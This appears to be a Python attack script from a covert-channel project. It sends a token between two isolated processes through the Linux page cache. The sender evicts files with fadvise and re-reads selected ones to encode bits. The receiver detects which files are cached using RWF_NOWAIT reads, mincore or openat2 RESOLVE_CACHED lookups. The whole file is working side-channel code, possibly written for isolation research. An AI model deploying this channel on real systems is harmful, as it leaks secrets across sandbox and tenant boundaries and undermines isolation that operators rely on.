"""Tells its partner by what is in the page cache: it drops files from there and reads some. Argument 2: whose files,
3: how the partner looks (without waiting, by mincore, or by whether names have been looked up).
"""

import ctypes
import mmap
import os
import struct
import sys
from pathlib import Path

from attack import TOKEN_BITS, bits, libc, pair, shared_files, syscall, token_of

MINCORE, OPENAT2 = 27, 437
RESOLVE_CACHED = 0x20
RWF_NOWAIT = 0x8
SYSTEM = Path("/usr/lib/x86_64-linux-gnu/perl-base"), Path("/usr/lib"), Path("/usr/share")


def files():
    if sys.argv[2] == "folder":
        return [*shared_files(), shared_files()[0].with_name("end")]
    found = []
    for place in SYSTEM:
        for path in sorted(place.rglob("*")) if place.is_dir() else ():
            if path.is_file() and not path.is_symlink() and path.stat().st_size > 0:
                found.append(path)
                if len(found) > TOKEN_BITS:
                    return found
    raise RuntimeError("no files of the system")


def send(token):
    opened = [os.open(path, os.O_RDONLY) for path in FILES]
    for file in opened:
        if sys.argv[2] == "folder":
            os.fsync(file)
        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
    for bit in [*bits(token), TOKEN_BITS]:
        os.pread(opened[bit], 1, 0)
    for file in opened:
        os.close(file)


def in_memory(path):
    if sys.argv[3] == "names":
        how = struct.pack("=3Q", os.O_RDONLY, 0, RESOLVE_CACHED)
        try:
            os.close(syscall(OPENAT2, -100, os.fsencode(path), how, len(how)))
        except BlockingIOError:
            return False
        return True
    file = os.open(path, os.O_RDONLY)
    try:
        if sys.argv[3] == "mincore":
            view = mmap.mmap(file, 0, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)
            start = ctypes.addressof(ctypes.c_char.from_buffer(view))
            told = ctypes.create_string_buffer(1 + len(view) // mmap.PAGESIZE)
            syscall(MINCORE, start, 1, told)
            return bool(told.raw[0] & 1)
        return os.preadv(file, [bytearray(1)], 0, RWF_NOWAIT) > 0
    except BlockingIOError:
        return False
    finally:
        os.close(file)


def receive():
    there = [in_memory(path) for path in FILES]
    return token_of(bit for bit in range(TOKEN_BITS) if there[bit]) if there[TOKEN_BITS] else None


assert libc
FILES = files()
pair(send, receive)
